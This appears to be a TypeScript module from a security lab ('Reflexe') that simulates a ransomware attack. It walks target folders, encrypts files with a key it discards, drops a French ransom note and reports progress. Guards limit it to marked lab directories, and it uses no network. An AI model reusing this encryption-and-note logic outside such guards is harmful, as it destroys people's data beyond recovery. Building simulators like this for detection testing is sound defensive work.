import { randomBytes } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { setTimeout as pause, setImmediate as yieldTurn } from 'node:timers/promises';
import { LOCKED, lock } from './attack/encrypt.ts';
import { checkTarget, MARKER, runToken } from './attack/guards.ts';
import { type Skipped, type Step, walk } from './attack/walk.ts';

export { AttackRefused } from './attack/guards.ts';

export interface AttackOptions {
  /** The lab run's own folder; its record gives the token that marks what may be touched. */
  runFolder: string;
  /** Directories to encrypt, each strictly below the run's folder and holding its marker. */
  targets: readonly string[];
  /** One target after the other, or a file of each in turn. */
  order?: 'one-by-one' | 'in-turn';
  /** As fast as the disk, when absent. */
  filesPerSecond?: number;
  signal?: AbortSignal;
  onProgress?: (done: { files: number; bytes: number; last: string }) => void;
}

export interface AttackReport {
  startedAt: string;
  endedAt: string;
  files: number;
  bytes: number;
  notes: number;
  skipped: { path: string; reason: string }[];
}

export const RANSOM_NOTE = 'LISEZ-MOI-VOS-FICHIERS.txt';
const NOTE = `Vos fichiers ont été chiffrés.
Ceci est un exercice du laboratoire de Reflexe : aucune rançon n'est demandée, la clé n'existe plus.
`;

/**
 * The lab's ransomware. Checks every target before touching the first one; then encrypts with a random key that is never
 * kept. It opens no network: nothing it imports does. Throws AttackRefused when a guard does not hold.
 */
export async function attack(options: AttackOptions): Promise<AttackReport> {
  const token = runToken(options.runFolder);
  for (const target of options.targets) checkTarget(target, options.runFolder, token);
  const key = randomBytes(32);
  const report: AttackReport = { startedAt: now(), endedAt: '', files: 0, bytes: 0, notes: 0, skipped: [] };
  const walks = options.targets.map(worthLocking);
  try {
    for (const step of options.order === 'in-turn' ? inTurn(walks) : oneByOne(walks)) {
      options.signal?.throwIfAborted();
      if (step.kind === 'skipped') report.skipped.push(skip(step));
      else if (step.kind === 'folder') report.notes += dropNote(step.path);
      else {
        const bytes = lock(step, key);
        if (bytes === undefined) {
          report.skipped.push({ path: step.shown, reason: 'changed or removed meanwhile' });
          continue;
        }
        report.files += 1;
        report.bytes += bytes;
        options.onProgress?.({ files: report.files, bytes: report.bytes, last: step.shown });
        if (options.filesPerSecond) await pause(1000 / options.filesPerSecond);
        else if (report.files % 32 === 0) await yieldTurn();
      }
    }
  } finally {
    key.fill(0);
    for (const one of walks) one.return(undefined);
  }
  return { ...report, endedAt: now() };
}

const now = () => new Date().toISOString();
const skip = ({ shown, reason }: Skipped) => ({ path: shown, reason });
const isOurs = (shown: string) =>
  shown.endsWith(LOCKED) || shown.endsWith(`/${MARKER}`) || shown.endsWith(`/${RANSOM_NOTE}`);

function* worthLocking(folder: string): Generator<Step> {
  for (const step of walk(folder)) if (step.kind !== 'file' || !isOurs(step.shown)) yield step;
}

/** `wx`: an existing name, be it a link, is left alone. */
function dropNote(folder: string): number {
  try {
    writeFileSync(`${folder}/${RANSOM_NOTE}`, NOTE, { flag: 'wx' });
    return 1;
  } catch {
    return 0;
  }
}

function* oneByOne(walks: readonly Generator<Step>[]): Generator<Step> {
  for (const one of walks) yield* one;
}

/** A file of each, then again; what is no file is passed along with the file after it. */
function* inTurn(walks: readonly Generator<Step>[]): Generator<Step> {
  const going = new Set(walks);
  while (going.size > 0) {
    for (const one of going) {
      for (;;) {
        const next = one.next();
        if (next.done) {
          going.delete(one);
          break;
        }
        yield next.value;
        if (next.value.kind === 'file') break;
      }
    }
  }
}
